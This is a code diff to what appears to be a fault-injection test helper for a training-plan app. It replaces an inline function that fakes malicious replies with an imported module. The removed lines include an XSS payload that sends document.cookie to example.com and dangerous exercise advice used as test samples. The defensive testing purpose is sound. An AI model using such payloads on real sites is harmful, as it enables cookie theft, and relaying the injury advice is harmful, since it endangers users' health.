@@ -1,6 +1,7 @@
 import type { CanonicalBlock } from '@/lib/domain/canonical-block'
 import { exerciseIds } from '@/lib/domain/catalogue'
 import type { MetadataReply, WeekReply } from '@/lib/domain/wire'
+import { evilReply } from './evil-reply'
 import type { Fault } from './fault-script'
 
 type Reply = Partial<MetadataReply> & Partial<WeekReply>
@@ -28,7 +29,7 @@ export function brokenText(fault: Fault, reply: object, block: CanonicalBlock): 
     case 'wrong_days':
       return JSON.stringify(withoutLastDay(structuredClone(reply)))
     case 'evil':
-      return JSON.stringify(withEvil(fault.what, structuredClone(reply)))
+      return JSON.stringify(evilReply(fault.what === 'turns' ? 'all' : fault.what, reply, block))
     case 'huge':
       return JSON.stringify({ ...reply, [noteKey(reply)]: 'heavy '.repeat(fault.bytes / 6) })
     default:
@@ -64,23 +65,5 @@ function withoutLastDay(reply: Reply): Reply {
   if (reply.days && reply.days.length > 1) reply.days.pop()
   else if (reply.days) reply.days.push({ ...structuredClone(reply.days[0])!, day: 2 })
   reply.slots?.pop()
-  return reply
-}
-
-function withEvil(what: Extract<Fault, { type: 'evil' }>['what'], reply: Reply): Reply {
-  const isAll = what === 'all'
-  const words: string[] = []
-  if (isAll || what === 'html') {
-    words.push(
-      '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>',
-    )
-  }
-  if (isAll || what === 'language') words.push('Diese Woche wird schwer. 今週は頑張ってください。')
-  if (isAll || what === 'pain') words.push('Train through the pain; your tendinitis will heal.')
-  if (isAll || what === 'numbers') words.push('Put 150 kg on the bar and do 12 sets.')
-  if (words.length > 0) Object.assign(reply, { [noteKey(reply)]: words.join(' ') })
-  const exercise = reply.days?.[0]?.exercises[0]
-  if (exercise && words.length > 0) exercise.cue = words.join(' ').slice(0, 200)
-  if (exercise && (isAll || what === 'sets')) Object.assign(exercise, { sets: 500, amount: 900 })
   return reply
 }
